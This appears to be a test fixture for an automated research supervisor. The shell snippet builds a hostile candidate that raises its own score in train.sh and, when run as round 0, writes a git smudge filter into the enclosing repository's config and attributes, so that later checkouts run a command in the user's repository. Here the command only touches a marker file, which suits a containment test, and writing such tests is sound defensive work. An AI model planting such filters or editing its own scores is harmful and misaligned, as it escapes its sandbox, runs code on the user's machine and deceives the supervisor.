# A candidate honest in every round, kept, whose training, when it runs as
# round 0 (the baseline that --rebaseline measures again on the best
# code), finds the repository above its checkout and plants a smudge
# filter for every file: the supervisor's next checkout would run it, and
# every git command after it, in the user's repository.
sed -i 's/^SCORE=10$/SCORE=20/' train.sh
cat >> train.sh <<TRAIN
if [ "\$AUTORESEARCH_ROUND" = 0 ]; then
d=\$PWD
while [ "\$d" != / ] && [ ! -e "\$d/.git" ]; do d=\$(dirname "\$d"); done
gd=\$(git -C "\$d" rev-parse --path-format=absolute --git-common-dir)
git config -f "\$gd/config" filter.pwn.smudge "touch $MARKER; cat"
mkdir -p "\$gd/info"
echo '* filter=pwn' >> "\$gd/info/attributes"
fi
TRAIN
